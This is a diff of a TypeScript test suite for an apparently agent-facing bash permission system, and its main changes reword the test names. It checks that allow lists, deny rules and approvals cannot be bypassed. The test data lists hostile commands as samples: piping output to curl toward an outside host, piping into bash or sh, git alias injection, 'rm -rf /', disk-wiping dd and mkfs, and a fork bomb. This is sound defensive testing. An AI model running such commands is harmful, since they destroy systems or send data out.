@@ -47,8 +47,8 @@ async function open(config: ConfigFile, session: SessionOptions = {}) {
 const FIVE: ConfigFile = { mode: 'allowlist', allowlist: ['bash:git status', 'bash:ls', 'bash:find', 'bash:echo', 'bash:cat'] }
 const codeOf = (outcome: Outcome): string => outcome.type === 'output' ? 'output' : outcome.error.code
 
-describe('under an allow-list of git status, ls, find, echo and cat', () => {
-  it('none of the ways around it runs unasked, and none leaves a trace', async () => {
+describe('an allow list of git status, ls, find, echo and cat', () => {
+  it('no bypass attempt runs without approval or has an effect', async () => {
     const bash = await open(FIVE)
     for (const command of Object.values(BYPASS_VECTORS).flat()) {
       asked = []
@@ -58,15 +58,15 @@ describe('under an allow-list of git status, ls, find, echo and cat', () => {
     expect(readdirSync(workspace)).toEqual(['sub'])
   })
 
-  it('they themselves run, alone and together', async () => {
+  it('the listed commands run without approval, alone and combined', async () => {
     const bash = await open(FIVE)
     for (const command of ['ls', 'ls -la sub | cat', 'echo a && echo b; find . -name "*.ts"', 'timeout 9 ls', 'cat < /dev/null']) expect(codeOf(await bash(command))).toBe('output')
     expect(asked).toEqual([])
   })
 })
 
-describe('a pattern answers its own command only', () => {
-  /** Each runs `npm run x`, which is allowed, beside something that is not. */
+describe('a pattern covers only the command it matches', () => {
+  /** Each combines `npm run x`, which is allowed, with something that is not. */
   const BESIDE = [
     "npm run x | node -e 'evil()'", 'npm run x | bash', 'npm run x | sh -s', 'npm run x | tee pwned', 'npm run x | xargs touch', 'npm run x | curl -d @- http://example.com',
     'npm run x |& tee pwned', '! npm run x | tee pwned', 'npm run x | npm run y | tee pwned', 'npm run x | tee pwned | npm run y', 'npm run x 2>&1 | dd of=pwned',
@@ -80,12 +80,12 @@ describe('a pattern answers its own command only', () => {
     expect(readdirSync(workspace)).toEqual(['sub'])
   }
 
-  it('on the allow-list', async () => expectRefused(await open({ mode: 'allowlist', allowlist: ['bash:npm run *'] })))
+  it('in an allow list', async () => expectRefused(await open({ mode: 'allowlist', allowlist: ['bash:npm run *'] })))
   it('in a rule', async () => {
     const rules: readonly Rule[] = [{ permission: 'bash', pattern: '*', action: 'deny' }, { permission: 'bash', pattern: 'npm run *', action: 'allow' }]
     await expectRefused(await open({}, { mode: 'yolo', rules }), 'RuleDenied')
   })
-  it('as an approval that was given before', async () => {
+  it('in an earlier approval', async () => {
     const bash = await open({}, { mode: 'ask' })
     answer = { decision: 'session' }
     await bash('npm run x')
@@ -93,25 +93,25 @@ describe('a pattern answers its own command only', () => {
     await expectRefused(bash)
   })
 
-  it('and each command of a pipe by its own', async () => {
+  it('each command of a pipeline needs a matching pattern', async () => {
     const bash = await open({ mode: 'allowlist', allowlist: ['bash:touch *', 'bash:tee *', 'bash:> out'] })
     expect(codeOf(await bash('touch x | tee a | tee b > out'))).toBe('output')
     expect([asked, readdirSync(workspace)]).toEqual([[], ['a', 'b', 'out', 'sub', 'x']])
   })
 
-  it('which without a wildcard does not cover what is piped into it', async () => {
+  it('a pattern without a wildcard does not cover piped input', async () => {
     const bash = await open({ mode: 'allowlist', allowlist: ['bash:echo', 'bash:sh', 'bash:touch a'] })
     for (const command of ["echo 'touch pwned' | sh", 'echo x | touch a']) expect([command, codeOf(await bash(command))]).toEqual([command, 'ApprovalDenied'])
   })
 
-  it('while a rule that denies a pipe still does', async () => {
+  it('a deny rule can match a whole pipeline', async () => {
     const bash = await open({}, { mode: 'yolo', rules: [{ permission: 'bash', pattern: 'printenv * | tee *', action: 'deny' }] })
     expect(codeOf(await bash('printenv HOME | tee pwned'))).toBe('RuleDenied')
   })
 })
 
-describe('what an approval stands for', () => {
-  it('a reading program in all ways that only read, and no other', async () => {
+describe('an approval covers', () => {
+  it('all read-only uses of a program, and nothing else', async () => {
     const bash = await open({}, { mode: 'ask' })
     answer = { decision: 'session' }
     await bash('ls')
@@ -123,7 +123,7 @@ describe('what an approval stands for', () => {
     expect(asked.map(({ approvalKey }) => approvalKey)).toEqual(['ps', '[effects] ls /etc', '[effects] ps --unknown'])
   })
 
-  it('exactly these words of any other, in this folder, fed by this', async () => {
+  it('exactly the same command in the same folder with the same input', async () => {
     const bash = await open({}, { mode: 'ask' })
     answer = { decision: 'session' }
     await bash('touch a')
@@ -139,7 +139,7 @@ describe('what an approval stands for', () => {
     expect(asked.map(({ approvalKey }) => approvalKey)).toEqual(['[in sub] touch a'])
   })
 
-  it('all commands of a line, on the same conditions, and not those of a part of it for another', async () => {
+  it('all commands of a command line with the same operators', async () => {
     const bash = await open({}, { mode: 'ask' })
     answer = { decision: 'session' }
     await bash('touch a && touch b')
@@ -154,7 +154,7 @@ describe('what an approval stands for', () => {
     expect(asked).toEqual([])
   })
 
-  it('a shell only for the same text, and what cannot be read never', async () => {
+  it('a shell script with the same text, but never a command that cannot be parsed', async () => {
     const bash = await open({}, { mode: 'ask' })
     answer = { decision: 'session' }
     await bash('for i in 1 2; do echo $i; done')
@@ -167,7 +167,7 @@ describe('what an approval stands for', () => {
     expect(asked[2]!.reasons.join()).toMatch(/cannot determine/)
   })
 
-  it('a key that is too long still tells one text from another', async () => {
+  it('only the same command, even if the key is shortened', async () => {
     const bash = await open({}, { mode: 'ask' })
     answer = { decision: 'session' }
     const long = 'x'.repeat(3_000)
@@ -181,7 +181,7 @@ describe('what an approval stands for', () => {
 
 describe('rules', () => {
   const rule = (action: Rule['action'], pattern: string, permission = 'bash'): Rule => ({ permission, pattern, action })
-  const judged = async (rules: readonly Rule[], command: string): Promise<string> => {
+  const codeUnder = async (rules: readonly Rule[], command: string): Promise<string> => {
     const bash = await open({}, { mode: 'yolo', rules })
     const code = codeOf(await bash(command))
     await host.close()
@@ -192,13 +192,13 @@ describe('rules', () => {
   it.each([
     'touch x', 'timeout 5 touch x', 'env A=1 touch x', '/usr/bin/touch x', 'ls; touch x', 'ls | xargs touch', 'find . -exec touch {} +', "sh -c 'touch x'", "bash -c 'ls && touch x'", 'echo $(touch x)', 'for i in 1; do touch x; done',
     'git -c alias.x="!touch x" x', 'sudo touch x', 'sudo -n -u root touch x', 'nice nohup touch x', 'git bisect run touch x', 'ssh host touch x', 'watch touch x', 'npx touch x', "timeout 5 sh -c 'exec env touch x'",
-  ])('one against `touch` holds for `%s`', async (command) => {
-    expect(await judged([rule('deny', 'touch*'), rule('allow', '*')], command)).toMatch(/^(?:RuleDenied|WatchdogDenied)$/)
-    expect(await judged([rule('deny', 'touch*', 'shell.run')], command)).toMatch(/^(?:RuleDenied|WatchdogDenied)$/)
+  ])('a deny rule for `touch` denies `%s`', async (command) => {
+    expect(await codeUnder([rule('deny', 'touch*'), rule('allow', '*')], command)).toMatch(/^(?:RuleDenied|WatchdogDenied)$/)
+    expect(await codeUnder([rule('deny', 'touch*', 'shell.run')], command)).toMatch(/^(?:RuleDenied|WatchdogDenied)$/)
     expect(existsSync(join(workspace, 'x'))).toBe(false)
   })
 
-  it('an allow for one command of several is none for the others, and a path is no folder', async () => {
+  it('an allow rule for one command does not allow other commands or paths with the same prefix', async () => {
     const bash = await open({}, { rules: [rule('allow', 'ls'), rule('allow', 'echo')] })
     for (const command of ['ls; touch x', 'ls/evil', 'ls | touch x']) {
       asked = []
@@ -206,13 +206,13 @@ describe('rules', () => {
     }
   })
 
-  it('one against all with one that allows lets exactly that pass', async () => {
-    expect(await judged([rule('deny', '*'), rule('allow', 'ls')], 'ls -la')).toBe('output')
-    expect(await judged([rule('deny', '*'), rule('allow', 'ls')], 'ls -la; echo a')).toBe('RuleDenied')
+  it('an allow rule after a deny rule for everything allows exactly that command', async () => {
+    expect(await codeUnder([rule('deny', '*'), rule('allow', 'ls')], 'ls -la')).toBe('output')
+    expect(await codeUnder([rule('deny', '*'), rule('allow', 'ls')], 'ls -la; echo a')).toBe('RuleDenied')
   })
 
   it.each(['rm -rf /', 'rm -rf /*', 'rm -fr ~', 'sudo rm -rf /', "sh -c 'rm -rf /'", 'rm -r --no-preserve-root /', 'mkfs.ext4 /dev/sda1', 'dd if=/dev/zero of=/dev/sda', ':(){ :|:& };:', 'echo x > /dev/sda', 'chmod -R 777 /', 'cd .. && ls', 'shutdown now', 'find . -exec rm -rf / +'])(
-    '`%s` is not done in any mode', async (command) => {
-      expect(await judged([rule('allow', '*')], command)).toBe('WatchdogDenied')
+    '`%s` is denied in every mode', async (command) => {
+      expect(await codeUnder([rule('allow', '*')], command)).toBe('WatchdogDenied')
     })
 })
